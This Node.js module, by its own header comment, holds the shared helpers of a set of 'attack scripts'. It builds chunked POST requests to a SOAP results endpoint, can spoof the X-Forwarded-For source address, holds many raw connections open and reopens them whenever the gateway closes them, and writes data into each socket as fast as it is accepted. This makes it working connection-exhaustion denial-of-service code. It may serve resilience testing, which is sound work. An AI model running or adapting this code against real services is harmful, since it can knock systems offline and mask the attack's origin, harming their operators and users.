// What the attack scripts share: raw connections that are opened again when the gateway ends them, and the word that says that it stands.
import { connect } from 'node:net';

const PATH = '/soap/leerresultaten';

/** The head of a POST to the results endpoint, of a body in chunks. `address`: from where it seems to come; `-`: it does not say. */
export function head(url, address, ...lines) {
  const from = address === '-' ? [] : [`X-Forwarded-For: ${address}`];
  const own = [`POST ${PATH} HTTP/1.1`, `Host: ${new URL(url).host}`, 'Content-Type: text/xml', 'Transfer-Encoding: chunked'];
  return [...own, ...from, ...lines, '', ''].join('\r\n');
}

/** A piece of a body in chunks. */
export function chunk(bytes) {
  const data = Buffer.from(bytes);
  return Buffer.concat([Buffer.from(`${data.length.toString(16)}\r\n`), data, Buffer.from('\r\n')]);
}

/** Keeps `count` connections: `begin` is called with each socket once it is open. Prints `ready` when all of them stood once. */
export function hold(url, count, begin) {
  const { hostname, port } = new URL(url);
  let standing = 0;
  const open = () => {
    const socket = connect(Number(port), hostname);
    socket.once('connect', () => {
      begin(socket);
      standing += 1;
      if (standing === count) process.stdout.write('ready\n');
    });
    socket.on('error', () => undefined);
    socket.resume();
    socket.once('close', () => setTimeout(open, 20));
  };
  for (let n = 0; n < count; n++) open();
}

/** Writes what `next` makes, again and again, as fast as it is taken. */
export function pour(socket, next) {
  const more = () => {
    while (!socket.destroyed && socket.write(next()));
  };
  socket.on('drain', more);
  more();
}
